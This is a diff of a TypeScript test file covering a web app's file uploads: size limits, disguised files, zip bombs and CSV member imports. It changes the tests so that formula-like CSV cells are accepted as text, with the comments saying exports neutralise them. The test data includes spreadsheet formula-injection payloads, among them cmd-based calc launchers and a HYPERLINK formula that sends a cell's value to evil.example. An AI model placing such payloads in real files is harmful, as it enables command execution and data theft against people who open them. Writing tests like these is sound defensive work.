@@ -1,7 +1,5 @@
 import { inflateRawSync, crc32 } from 'node:zlib';
 import {
-  COMMON_TRANSLATIONS,
-  lookupTranslation,
   MAX_UPLOAD_BYTES,
   MEMBER_IMPORT_COLUMNS,
   type EndpointContract,
@@ -16,7 +14,8 @@ import { DISGUISED_FILES, multipartBody, MULTIPART_CONTENT_TYPE, streamedFileFor
 
 // Uploads, over every contract that takes a file (its `upload`: field, types, size limit):
 // content that is not what the name says, files over the limit, a zip bomb where zips are
-// taken, and CSV cells a spreadsheet would run as formulas.
+// taken, and CSV cells that look like formulas (taken as the text they are: exports neutralise
+// them, see spreadsheetCell in shared-contracts).
 
 let t: TestApp;
 let admin: TestClient;
@@ -40,9 +39,13 @@ const LARGER_UPLOADS: Readonly<Record<string, string>> = {
   'member-import.upload-csv': 'a file of 100,000 members is about 20 MB (SPEC.md §2/§3); the server streams it into chunks',
 };
 
-/** Columns of each CSV upload, so every column is tried with a formula; a new CSV upload must be listed. */
-const CSV_COLUMNS: Readonly<Record<string, readonly string[]>> = {
-  'member-import.upload-csv': MEMBER_IMPORT_COLUMNS,
+/**
+ * The free-text columns of each CSV upload: any text is a valid value there, so text that looks
+ * like a formula must be taken too (the other columns keep their own format checks). A new CSV
+ * upload must be listed.
+ */
+const CSV_TEXT_COLUMNS: Readonly<Record<string, readonly string[]>> = {
+  'member-import.upload-csv': ['firstName', 'lastName', 'street', 'additionalAddress', 'city', 'externalCompany'] satisfies MemberImportColumn[],
 };
 
 function sendForm(endpoint: UploadEndpoint, body: Buffer) {
@@ -73,7 +76,7 @@ it('keeps the 5 MB default limit on every upload but the listed larger ones', ()
 
 it('knows the columns of every CSV upload', () => {
   const csvUploads = uploads.filter((endpoint) => endpoint.upload.types.includes('csv')).map((endpoint) => endpoint.id);
-  expect(csvUploads.sort()).toEqual(Object.keys(CSV_COLUMNS).sort());
+  expect(csvUploads.sort()).toEqual(Object.keys(CSV_TEXT_COLUMNS).sort());
 });
 
 describe.each(byName(uploads))('%s', (_name, endpoint) => {
@@ -148,13 +151,6 @@ describe('zip bombs', () => {
   }
 });
 
-/** Whether a row problem's code is shown to people: a validation key or an error code, in both languages. */
-function isTranslated(code: string): boolean {
-  return Object.values(COMMON_TRANSLATIONS).every(
-    (translations) => lookupTranslation(translations, `common.validation.${code}`) !== undefined || lookupTranslation(translations, `common.errorCodes.${code}`) !== undefined,
-  );
-}
-
 /** A row every column of which is valid; `+` starts its phone numbers, as they may. */
 const VALID_MEMBER_ROW: Readonly<Record<MemberImportColumn, string>> = {
   firstName: 'Anna',
@@ -177,24 +173,19 @@ const VALID_MEMBER_ROW: Readonly<Record<MemberImportColumn, string>> = {
   password: '',
 };
 
-/** Columns a formula may stand in, each with its reason: it is never shown or exported. */
-const FORMULA_EXEMPT_COLUMNS: Readonly<Partial<Record<string, string>>> = {
-  password: 'hashed on import (mode byColumn) or ignored; never shown or exported, and a password may start with any character',
-};
-
 const quoteCell = (value: string) => (/[";,\r\n]/.test(value) ? `"${value.replace(/"/g, '""')}"` : value);
 
-describe.each(byName(uploads.filter((endpoint) => CSV_COLUMNS[endpoint.id])))('%s formula cells', (_name, endpoint) => {
-  const columns = (CSV_COLUMNS[endpoint.id] ?? []).filter((column) => !FORMULA_EXEMPT_COLUMNS[column]);
+describe.each(byName(uploads.filter((endpoint) => CSV_TEXT_COLUMNS[endpoint.id])))('%s formula-like cells', (_name, endpoint) => {
+  const columns = CSV_TEXT_COLUMNS[endpoint.id] ?? [];
 
   it.each(["=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", '@SUM(1+9)*cmd|\' /C calc\'!A0', '=HYPERLINK("http://evil.example/?x="&A1,"Details")'])(
-    '%s in any column makes its row invalid with a translated key, and the valid row stays valid',
+    '%s in any free-text column is taken as text: its row stays valid',
     async (formula) => {
-      const header = Object.keys(VALID_MEMBER_ROW);
+      const header = MEMBER_IMPORT_COLUMNS;
       const row = (index: number, column?: string) =>
         header
           .map((name) => {
-            const value = name === 'username' ? `anna.berg${index}` : name === 'email' ? `anna.berg${index}@example.com` : VALID_MEMBER_ROW[name as MemberImportColumn];
+            const value = name === 'username' ? `anna.berg${index}` : name === 'email' ? `anna.berg${index}@example.com` : VALID_MEMBER_ROW[name];
             return quoteCell(name === column ? formula : value);
           })
           .join(';');
@@ -202,10 +193,8 @@ describe.each(byName(uploads.filter((endpoint) => CSV_COLUMNS[endpoint.id])))('%
       const response = await sendFile(endpoint, 'members.csv', Buffer.from(csv));
       expect(response.statusCode).toBe(200);
       const report = response.json() as MemberImportReport;
-      expect(report.errors.filter((error) => error.row === 2)).toEqual([]);
-      const unflagged = columns.filter((column, index) => !report.errors.some((error) => error.row === index + 3 && error.column === column));
-      expect(unflagged).toEqual([]);
-      expect(report.errors.map((error) => error.code).filter((code) => !isTranslated(code))).toEqual([]);
+      expect(report.errors).toEqual([]);
+      expect(report.validRows).toBe(columns.length + 1);
     },
   );
 });
